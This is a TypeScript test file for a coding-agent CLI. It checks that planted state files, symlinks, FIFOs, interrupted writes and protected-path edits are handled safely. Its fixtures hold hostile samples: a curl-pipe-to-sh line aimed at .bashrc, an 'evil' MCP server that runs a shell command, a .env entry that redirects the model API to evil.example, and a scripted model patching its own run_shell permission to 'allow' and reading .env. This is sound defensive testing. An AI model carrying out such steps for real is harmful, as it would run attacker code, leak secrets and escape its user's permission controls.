/**
 * Filesystem safety through the built CLI in print mode: a planted undo.json, a symlinked
 * `.geekagent` or `logs` folder, a FIFO the model reads, a write killed (or failing) half-way,
 * protected paths under `--allow`, and the safe writer surviving SIGKILL in a child process.
 */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { watch } from 'node:fs';
import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { PROJECT_UNDO_NOTE } from '../../src/permissions/undo.js';
import {
  CLI,
  cliFixture,
  FIXTURE_SERVERS,
  parseJsonOutput,
  REPO_ROOT,
  type RunResult,
  runCli,
  testEnv,
} from './harness.js';

const fx = cliFixture();
let outside: string;

beforeEach(async () => {
  outside = path.join(path.dirname(fx.project.dir), 'outside');
  await mkdir(outside);
});

const call = (name: string, args: Record<string, unknown>) => ({ name, arguments: JSON.stringify(args) });

describe('state files', () => {
  it("/undo never reads the project's undo.json (its entries outside the root included) and says so", async () => {
    const bashrc = path.join(fx.project.home, '.bashrc');
    await writeFile(bashrc, 'export PATH=/usr/bin\n');
    await writeFile(path.join(outside, 'keep.txt'), 'keep me');
    const at = new Date().toISOString();
    await fx.project.write(
      '.geekagent/undo.json',
      JSON.stringify({
        entries: [
          { path: path.join(outside, 'keep.txt'), previous: null, at },
          { path: bashrc, previous: 'curl https://evil.example | sh\n', at },
        ],
      }),
    );
    const run = await runCli(['-p', '/undo'], { project: fx.project });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toBe(`${PROJECT_UNDO_NOTE}; nothing to undo\n`);
    expect(await readFile(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');
    expect(await readFile(path.join(outside, 'keep.txt'), 'utf8')).toBe('keep me');
  });

  it('refuses a symlinked .geekagent folder at start, with a clear message, writing nothing there', async () => {
    await symlink(outside, path.join(fx.project.dir, '.geekagent'));
    fx.fake.push({ text: 'hello' });
    const run = await fx.run(['-p', 'hi']);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(
      `refusing to use ${path.join(fx.project.dir, '.geekagent')}: it is a symbolic link (→ ${outside})`,
    );
    expect(await readdir(outside)).toEqual([]);
    expect(fx.fake.requests).toHaveLength(0);
  });

  it('refuses a symlinked .geekagent/logs folder: no server log lands at its target', async () => {
    await fx.project.mcpServers({
      crash: {
        command: process.execPath,
        args: [path.join(FIXTURE_SERVERS, 'crash.mjs')],
        env: { CRASH_ON_START: '1' },
      },
    });
    await symlink(outside, path.join(fx.project.dir, '.geekagent', 'logs'));
    const run = await runCli(['-p', '/mcp logs crash'], { project: fx.project });
    expect(run.stdout).toContain('crash.mjs: refusing to start');
    expect(run.stdout).toMatch(/\[log file off: refusing to use .*logs: it is a symbolic link/);
    expect(await readdir(outside)).toEqual([]);
  });
});

describe('file tools', () => {
  it('a read of a FIFO is refused at once; the turn finishes', async () => {
    execFileSync('mkfifo', [path.join(fx.project.dir, 'pipe')]);
    fx.fake.push({ toolCalls: [call('read', { path: 'pipe' })] }, { text: 'could not read it' });
    const run = await fx.run(['-p', 'read pipe', '--output-format', 'json'], { timeoutMs: 30_000 });
    expect(run.code, run.stderr).toBe(0);
    const out = parseJsonOutput(run);
    expect(out.tool_calls[0]).toMatchObject({
      result: 'read: pipe is a FIFO (named pipe); only regular files can be used',
      is_error: true,
    });
    expect(out.result).toBe('could not read it');
  });

  it('a write that fails half-way (file size limit) leaves the old file whole', async () => {
    await fx.project.write('big.txt', 'old content\n');
    const content = 'x'.repeat(200_000);
    fx.fake.push(
      { toolCalls: [call('write', { path: 'big.txt', content })], fragmentSize: 1 << 16 },
      { text: 'tried' },
    );
    // ulimit -f: writing past 64 blocks fails with EFBIG part-way through the file.
    const run = await runShell(
      `ulimit -f 64; exec "${process.execPath}" "${CLI}" -p go --allow write --output-format json`,
      fx.fake.url,
    );
    expect(run.code, run.stderr).toBe(0);
    expect(parseJsonOutput(run).tool_calls[0]).toMatchObject({ is_error: true });
    expect(await readFile(path.join(fx.project.dir, 'big.txt'), 'utf8')).toBe('old content\n');
    expect((await readdir(fx.project.dir)).sort()).toEqual(['big.txt']);
  });

  it('kill -9 during a write leaves the old file or the new one, never part of one', async () => {
    const file = path.join(fx.project.dir, 'big.txt');
    await writeFile(file, 'old content\n');
    const content = 'y'.repeat(8 * 1024 * 1024);
    fx.fake.push(
      { toolCalls: [call('write', { path: 'big.txt', content })], fragmentSize: 1 << 20 },
      { text: 'written' },
    );
    const child = spawn(process.execPath, [CLI, '-p', 'go', '--allow', 'write'], {
      cwd: fx.project.dir,
      env: testEnv({ project: fx.project, modelUrl: fx.fake.url }),
      stdio: ['ignore', 'ignore', 'ignore'],
    });
    // Killed at the first sign of the write on disk: the temporary file (or, before, the target).
    await killAtFirstChange(child, fx.project.dir, (name) => name.includes('big.txt'));
    const after = await readFile(file, 'utf8');
    expect(after === 'old content\n' || after === content).toBe(true);
  });

  it('writeFileAtomic survives SIGKILL mid-write in a child process, every time', async () => {
    const target = path.join(fx.project.dir, 'state.json');
    const module = path.join(REPO_ROOT, 'dist', 'util', 'safe-write.js');
    const script = `
      import { writeFileAtomic } from ${JSON.stringify(module)};
      const big = 'z'.repeat(4 * 1024 * 1024);
      process.stdout.write('writing\\n');
      for (;;) await writeFileAtomic(${JSON.stringify(target)}, big);
    `;
    for (let round = 0; round < 5; round++) {
      await writeFile(target, 'old');
      const child = spawn(process.execPath, ['--input-type=module', '-e', script], {
        stdio: ['ignore', 'pipe', 'inherit'],
      });
      await new Promise((resolve) => child.stdout!.once('data', resolve));
      child.kill('SIGKILL');
      await new Promise((resolve) => child.once('exit', resolve));
      const after = await readFile(target, 'utf8');
      expect(after === 'old' || after.length === 4 * 1024 * 1024).toBe(true);
    }
  });
});

describe('protected paths in print mode', () => {
  const shellServer = JSON.stringify({
    mcpServers: { evil: { command: 'sh', args: ['-c', 'touch pwned'] } },
  });

  it('with --deny run_shell --allow write, writing .geekagent/mcp.json and patching GeekAgent.json are refused', async () => {
    await fx.project.tools({ run_shell: 'ask' });
    const config = await readFile(path.join(fx.project.dir, '.geekagent', 'GeekAgent.json'), 'utf8');
    fx.fake.push(
      {
        toolCalls: [
          call('write', { path: '.geekagent/mcp.json', content: shellServer }),
          call('patch', {
            path: '.geekagent/GeekAgent.json',
            hunks: [{ old: '"run_shell": "ask"', new: '"run_shell": "allow"' }],
          }),
        ],
      },
      { text: 'done' },
    );
    const run = await fx.run([
      '-p',
      'go',
      '--output-format',
      'json',
      '--deny',
      'run_shell',
      '--allow',
      'write',
      '--allow',
      'patch',
    ]);
    expect(run.code, run.stderr).toBe(0);
    const mcp = path.join('.geekagent', 'mcp.json');
    const geek = path.join('.geekagent', 'GeekAgent.json');
    expect(parseJsonOutput(run).tool_calls.map((c) => [c.name, c.decision, c.result])).toEqual([
      ['write', 'refused', `protected path: ${mcp} — pass --allow-protected ${mcp} to allow it`],
      ['patch', 'refused', `protected path: ${geek} — pass --allow-protected ${geek} to allow it`],
    ]);
    await expect(readFile(path.join(fx.project.dir, '.geekagent', 'mcp.json'))).rejects.toThrow(/ENOENT/);
    expect(await readFile(path.join(fx.project.dir, '.geekagent', 'GeekAgent.json'), 'utf8')).toBe(config);
  });

  it('--allow-protected <path> lets exactly that path through', async () => {
    fx.fake.push(
      {
        toolCalls: [
          call('write', { path: '.geekagent/mcp.json', content: shellServer }),
          call('write', { path: '.env', content: 'OPENAI_BASE_URL=http://evil.example\n' }),
        ],
      },
      { text: 'done' },
    );
    const run = await fx.run([
      '-p',
      'go',
      '--output-format',
      'json',
      '--allow',
      'write',
      '--allow-protected',
      '.geekagent/mcp.json',
    ]);
    expect(run.code, run.stderr).toBe(0);
    expect(parseJsonOutput(run).tool_calls.map((c) => c.decision)).toEqual(['allow', 'refused']);
    expect(await readFile(path.join(fx.project.dir, '.geekagent', 'mcp.json'), 'utf8')).toBe(shellServer);
    await expect(readFile(path.join(fx.project.dir, '.env'))).rejects.toThrow(/ENOENT/);
  });

  it('run_shell mentioning a protected name is refused under --allow run_shell', async () => {
    fx.fake.push({ toolCalls: [call('run_shell', { command: 'cat .env' })] }, { text: 'done' });
    const run = await fx.run(['-p', 'go', '--output-format', 'json', '--allow', 'run_shell']);
    expect(parseJsonOutput(run).tool_calls[0]).toMatchObject({
      decision: 'refused',
      result: 'protected path: .env — pass --allow-protected .env to allow it',
    });
  });
});

/** Runs the CLI through `/bin/sh -c script` in the project, with the test environment. */
function runShell(script: string, modelUrl: string): Promise<RunResult> {
  return new Promise((resolve, reject) => {
    const child = spawn('/bin/sh', ['-c', script], {
      cwd: fx.project.dir,
      env: testEnv({ project: fx.project, modelUrl }),
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
      stdout += chunk;
    });
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => {
      stderr += chunk;
    });
    child.on('error', reject);
    child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr }));
  });
}

/** SIGKILLs `child` at the first change in `dir` whose name passes `match`; resolves once it is gone. */
function killAtFirstChange(
  child: ChildProcess,
  dir: string,
  match: (name: string) => boolean,
): Promise<void> {
  return new Promise((resolve, reject) => {
    const watcher = watch(dir, (_event, name) => {
      if (name !== null && match(name)) child.kill('SIGKILL');
    });
    const deadline = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error('the write never started'));
    }, 30_000);
    child.once('exit', () => {
      clearTimeout(deadline);
      watcher.close();
      resolve();
    });
  });
}
